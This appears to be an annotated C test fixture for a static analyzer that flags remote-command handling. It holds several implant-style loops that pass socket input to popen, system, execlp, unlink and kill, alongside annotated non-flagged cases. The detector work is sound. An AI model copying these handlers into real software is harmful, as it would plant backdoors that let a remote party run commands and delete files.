/* Annotated samples for the remote-command pack in C: a POSIX implant's command loop. */
#include <sys/socket.h>
#include <stdlib.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <signal.h>

typedef void (*handler_fn)(int sock, const char *arg);

static void cmd_shell(int sock, const char *arg)
{
	FILE *p = popen(arg, "r"); // want "remote-command/process-from-network"
	char out[1024];
	size_t n = fread(out, 1, sizeof out, p);
	send(sock, out, n, 0);
	pclose(p);
}

static void cmd_rm(int sock, const char *arg)
{
	unlink(arg); // want "remote-command/file-operation-from-network"
}

static void cmd_kill(int sock, const char *arg)
{
	kill(atoi(arg), SIGKILL);
}

struct command {
	const char *name;
	handler_fn fn;
};

static const struct command commands[] = {
	{"shell", cmd_shell},
	{"rm", cmd_rm},
	{"kill", cmd_kill},
};

void serve(int sock)
{
	char line[512];
	ssize_t n = recv(sock, line, sizeof line - 1, 0);
	if (n <= 0)
		return;
	line[n] = 0;
	char *arg = strchr(line, ' ');
	if (arg)
		*arg++ = 0;
	for (size_t i = 0; i < sizeof commands / sizeof commands[0]; i++) {
		if (strcmp(line, commands[i].name) == 0) { // want "remote-command/dispatcher"
			commands[i].fn(sock, arg);
			return;
		}
	}
}

/* A second implant: one opcode byte picks the action. */
void handle_packet(int sock)
{
	unsigned char pkt[256];
	recv(sock, pkt, sizeof pkt, 0);
	switch (pkt[0]) {
	case 0: // want "remote-command/dispatcher"
		system((char *)pkt + 1); // want "remote-command/process-from-network"
		break;
	case 1:
		execlp((char *)pkt + 1, (char *)pkt + 1, (char *)0); // want "remote-command/process-from-network"
		break;
	case 0x02:
		unlink((char *)pkt + 1); // want "remote-command/file-operation-from-network"
		break;
	case 0x03:
		reboot(0);
		break;
	}
}

/* A third implant: an opcode table keyed by enumerators, indexed by the received byte. */
enum { OP_SHELL = 1, OP_RM = 2 };

struct opcode {
	int op;
	handler_fn fn;
};

static const struct opcode opcodes[] = {
	{OP_SHELL, cmd_shell},
	{OP_RM, cmd_rm},
};

void handle_opcode(int sock)
{
	unsigned char op;
	char arg[256];
	recv(sock, &op, 1, 0);
	recv(sock, arg, sizeof arg, 0);
	for (int i = 0; i < 2; i++) {
		if (opcodes[i].op == op) { // want "remote-command/dispatcher"
			opcodes[i].fn(sock, arg);
		}
	}
}

/* The same table consulted with a local signal number is not a remote command. */
void on_signal(int sig)
{
	for (int i = 0; i < 2; i++) {
		if (opcodes[i].op == sig) { /* ok: the opcode is a local signal, not network input */
			opcodes[i].fn(0, "/tmp/agent.pid");
		}
	}
}

/* Local argument parsing is not a remote command. */
int main(int argc, char **argv)
{
	if (argc > 1 && strcmp(argv[1], "--install") == 0) { /* ok: a local command line */
		system("cp implant /usr/local/bin/"); /* ok: a constant command */
	} else if (argc > 1 && strcmp(argv[1], "--remove") == 0) {
		unlink(argv[0]); /* ok: the path comes from the command line, not the network */
	}
	char status[16];
	recv(3, status, sizeof status, 0);
	if (strcmp(status, "OK") == 0) /* ok: one comparison with no action is not a dispatcher */
		puts("server ok");
	return 0;
}

/* The server names the file and the mode it is opened in. */
void put_file(int sock)
{
	char req[512];
	recv(sock, req, sizeof req, 0);
	char *mode = strchr(req, ' ');
	*mode++ = 0;
	FILE *f = fopen(req, mode); // want "remote-command/file-operation-from-network"
	fclose(f);
}
